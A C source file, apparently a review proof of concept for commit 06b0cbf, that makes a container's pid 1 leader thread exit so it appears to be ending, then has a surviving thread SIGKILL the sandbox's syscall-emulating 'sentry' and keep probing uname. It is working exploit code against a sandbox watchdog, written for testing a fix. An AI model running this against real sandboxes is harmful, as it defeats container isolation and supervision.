// leaderexit: the container's init (pid 1) ends its thread-group leader
// with SYS_exit while a second thread lives on. The leader is then a
// zombie with PF_EXITING in /proc/1/stat, but the pid namespace lives:
// pid 1 has not exited. The second thread SIGKILLs the sentry (visible in
// the container's pid namespace) and then keeps calling uname(2), a call
// the sentry emulates, reporting each answer in /ctl/uname.
//
// Review PoC for 06b0cbf (the watchdog takes PF_EXITING of pid 1 as "the
// namespace is ending" and so treats this SIGKILL as normal).
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <sys/utsname.h>
#include <unistd.h>

static void put(const char *file, const char *text) {
	char tmp[128];
	snprintf(tmp, sizeof tmp, "%s.tmp", file);
	int fd = open(tmp, O_WRONLY | O_CREAT | O_TRUNC, 0644);
	if (fd < 0)
		return;
	if (write(fd, text, strlen(text)) < 0) {
	}
	close(fd);
	rename(tmp, file);
}

static char leader_state(void) {
	char b[512];
	int fd = open("/proc/1/stat", O_RDONLY);
	if (fd < 0)
		return '?';
	int n = read(fd, b, sizeof b - 1);
	close(fd);
	if (n <= 0)
		return '?';
	b[n] = 0;
	char *p = strrchr(b, ')');
	return p && p[1] ? p[2] : '?';
}

#include "findsentry.h"

static void *worker(void *arg) {
	(void)arg;
	while (leader_state() != 'Z')
		usleep(10000);
	int s = find_sentry();
	char msg[128];
	if (s <= 0) {
		put("/ctl/killed", "no-sentry\n");
	} else {
		int r = kill(s, SIGKILL);
		snprintf(msg, sizeof msg, "%d %d\n", s, r == 0 ? 0 : errno);
		put("/ctl/killed", msg);
	}
	for (;;) {
		struct utsname u;
		long r = syscall(SYS_uname, &u);
		snprintf(msg, sizeof msg, "%s\n", r == 0 ? "ok" : strerror(errno));
		put("/ctl/uname", msg);
		usleep(100000);
	}
	return NULL;
}

int main(void) {
	pthread_t t;
	if (pthread_create(&t, NULL, worker, NULL) != 0)
		return 1;
	syscall(SYS_exit, 0); // this thread only: pid 1 stays, its leader a zombie
	return 0;
}
